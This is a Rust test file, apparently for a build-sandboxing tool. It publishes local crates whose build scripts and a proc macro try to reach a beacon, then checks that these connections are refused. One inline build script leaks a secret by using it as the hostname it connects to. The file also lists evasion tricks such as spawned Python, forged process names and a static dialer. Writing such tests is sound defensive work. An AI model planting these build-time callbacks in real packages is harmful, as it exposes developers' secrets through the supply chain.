//! cargo: build scripts and proc macros.

use crate::alone::alone;
use crate::findings::{Finding, expect_refused};
use crate::harness::missing;
use crate::world::{Run, SECRET, World, pack, python_name, static_program};
use std::fmt::Write;
use std::fs;
use std::process::Command;

/// The files of a crate: name and text.
type Files<'a> = &'a [(&'a str, &'a str)];

/// A crate, in a sparse index.
fn publish(world: &World, name: &str, more: &str, files: Files<'_>) {
    let folder = format!("packages/{name}");
    let manifest =
        format!("[package]\nname = \"{name}\"\nversion = \"1.0.0\"\nedition = \"2021\"\n{more}");
    let library = ("src/lib.rs", "");
    for (file, text) in [("Cargo.toml", &*manifest), library].iter().chain(files) {
        world
            .dir
            .write(&format!("{folder}/{file}"), world.filled(text));
    }
    store(world, name);
}

fn store(world: &World, name: &str) {
    let folder = world.dir.path(&format!("packages/{name}"));
    let krate = world.dir.path(&format!("www/{name}.crate"));
    pack(&folder, &format!("{name}-1.0.0"), &krate);
    let sum = Command::new("sha256sum").arg(&krate).output().unwrap();
    let sum = String::from_utf8(sum.stdout).unwrap();
    let sum = sum.split(' ').next().unwrap();
    let line = format!(
        "{{\"name\": \"{name}\", \"vers\": \"1.0.0\", \"deps\": [], \"cksum\": \"{sum}\", \"features\": {{}}, \"yanked\": false}}\n"
    );
    world
        .dir
        .write(&format!("www/{}/{}/{name}", &name[..2], &name[2..4]), line);
}

fn project(world: &World, name: &str, main: &str, packages: &[&str]) {
    let mut manifest = format!(
        "[package]\nname = \"{name}\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\n"
    );
    for package in packages {
        let _ = writeln!(
            manifest,
            "{package} = {{ version = \"1\", registry = \"local\" }}"
        );
    }
    let file = |file: &str, text: &str| world.dir.write(&format!("home/{name}/{file}"), text);
    file("Cargo.toml", &manifest);
    file("src/main.rs", main);
    let config = format!(
        "[registries.local]\nindex = \"sparse+{}/\"\n[net]\nretry = 0\n",
        world.url()
    );
    file(".cargo/config.toml", &config);
    let dl = format!("{{\"dl\": \"{}/{{crate}}.crate\"}}", world.url());
    world.dir.write("www/config.json", dl);
}

const FETCH: &str = "use std::io::{Read, Write};
fn main() {
    let mut stream = std::net::TcpStream::connect((\"files.test\", @FILES@)).unwrap();
    stream.write_all(b\"GET /prebuilt HTTP/1.0\\r\\n\\r\\n\").unwrap();
    stream.read_to_string(&mut String::new()).unwrap();
}
";

const LOOKUP: &str = "fn main() {
    let _ = std::net::TcpStream::connect((\"@SECRET@\", @BEACON@));
}
";

/// A build script that starts another file of its crate.
fn starts(program: &str, argument: &str) -> String {
    format!(
        "fn main() {{
    let status = std::process::Command::new(\"{program}\").arg(\"{argument}\").status();
    assert!(status.unwrap().success());
}}
"
    )
}

#[test]
#[ignore = "long: tests/run --full"]
fn build_scripts_and_proc_macros() {
    if missing("cc") || missing("python3") || !alone("cargo::build_scripts_and_proc_macros") {
        return;
    }
    let world = World::new();
    // The toolchain's own: the one on PATH may be a chooser of toolchains, which has another HOME.
    let cargo = std::env::var("CARGO").unwrap();
    let rustc = std::path::Path::new(&cargo).with_file_name("rustc");
    let env = [("RUSTC", rustc.to_str().unwrap().to_owned())];
    let command = format!("rm -rf target Cargo.lock ~/.cargo && {cargo} build -q");
    let run = |project| Run {
        project,
        command: &command,
        env: &env,
    };
    publish(&world, "good", "", &[("build.rs", FETCH)]);
    project(&world, "app", "fn main() {}\n", &["good"]);
    let policy = world.round_trip(&run("app"));
    assert!(policy.contains("package:cargo:good"), "{policy}");
    assert!(world.files.connections() > 0);

    let beacon = format!("127.0.0.1:{}/tcp", world.beacon.port());
    let python = "/usr/bin/python3";
    let (raw, forged, rewrite) = (
        starts(python, "raw.py"),
        starts(python, "forged.py"),
        starts(python, "rewrite.py"),
    );
    let dial = starts("./dial", "@BEACON@");
    let script = "build-script-build";
    let name = python_name();
    let evil: [(&str, Files<'_>, &str, &str); 6] = [
        (
            "evil-beacon",
            &[("build.rs", include_str!("evil/beacon.rs"))],
            script,
            &beacon,
        ),
        ("evil-lookup", &[("build.rs", LOOKUP)], script, SECRET),
        (
            "evil-raw",
            &[("build.rs", &raw), ("raw.py", include_str!("evil/raw.py"))],
            "raw.py",
            "127.0.0.1/raw",
        ),
        (
            "evil-forged",
            &[
                ("build.rs", &forged),
                ("forged.py", include_str!("evil/forged.py")),
            ],
            &name,
            &beacon,
        ),
        (
            "evil-rewrite",
            &[
                ("build.rs", &rewrite),
                ("rewrite.py", include_str!("evil/rewrite.py")),
            ],
            "rewrite.py",
            &beacon,
        ),
        ("evil-static", &[("build.rs", &dial)], "dial", &beacon),
    ];
    let mut findings = Vec::new();
    let mut packages = vec!["good", "evil-macro"];
    for (name, files, app, to) in evil {
        publish(&world, name, "", files);
        packages.push(name);
        findings.push(Finding {
            package: format!("cargo:{name}"),
            step: "build script",
            app: app.to_owned(),
            to: to.to_owned(),
        });
    }
    let program = static_program(&world.dir).unwrap();
    fs::copy(program, world.dir.path("packages/evil-static/dial")).unwrap();
    store(&world, "evil-static");
    let library = [("src/lib.rs", include_str!("evil/macro.rs"))];
    publish(&world, "evil-macro", "[lib]\nproc-macro = true\n", &library);
    // The macro runs in the compiler of whoever uses it.
    findings.push(Finding {
        package: "cargo:victim".to_owned(),
        step: "rustc",
        app: "rustc".to_owned(),
        to: beacon.clone(),
    });
    let main = "evil_macro::nothing!();\nfn main() {}\n";
    project(&world, "victim", main, &packages);
    expect_refused(&world, &run("victim"), &findings);
}
